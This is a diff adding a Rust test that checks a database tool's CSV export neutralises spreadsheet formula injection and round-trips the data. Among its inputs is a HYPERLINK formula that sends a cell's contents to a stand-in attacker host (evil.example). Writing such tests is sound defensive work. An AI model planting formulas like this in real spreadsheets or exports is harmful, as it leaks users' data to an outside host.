@@ -131,3 +131,48 @@ fn a_generated_directory_is_the_same_from_the_same_seed_and_comes_back() {
     assert!(Beside::count(&first, "grants", "cluster_id IS NOT NULL") > 0);
     run(&first, &["check"]).well();
 }
+
+#[test]
+fn a_table_holds_no_formulas_and_comes_back_as_it_was() {
+    let (first, second) = (TestDatabase::create(), TestDatabase::create());
+    let texts = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "+49 30 901820",
+        "-5",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "'=1",
+        "''=1",
+        "'tis",
+        "O'Brien",
+        "'",
+        "＝1+1",
+    ];
+    let rows: Vec<Value> = texts
+        .iter()
+        .enumerate()
+        .map(|(number, text)| json!({"username": format!("user{number}"), "name": text, "surname": text}))
+        .collect();
+    import(&first, lines(&rows), &[]).well();
+    let table = ["--kind", "users", "--format", "csv"];
+    let written = export(&first, &table).out;
+    let mut reader = csv::Reader::from_reader(written.as_bytes());
+    for record in reader.records() {
+        for cell in &record.unwrap() {
+            let first = cell.chars().next();
+            assert!(
+                !first.is_some_and(|c| "=+-@\t\r\n＝".contains(c)),
+                "{cell:?}"
+            );
+        }
+    }
+    import(&second, &written, &["--kind", "users", "--format", "csv"]).well();
+    assert_eq!(export(&second, &table).out, written);
+    let back = export(&second, &["--kind", "users"]).rows();
+    let names: Vec<&str> = back
+        .iter()
+        .map(|row| row["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, texts);
+}
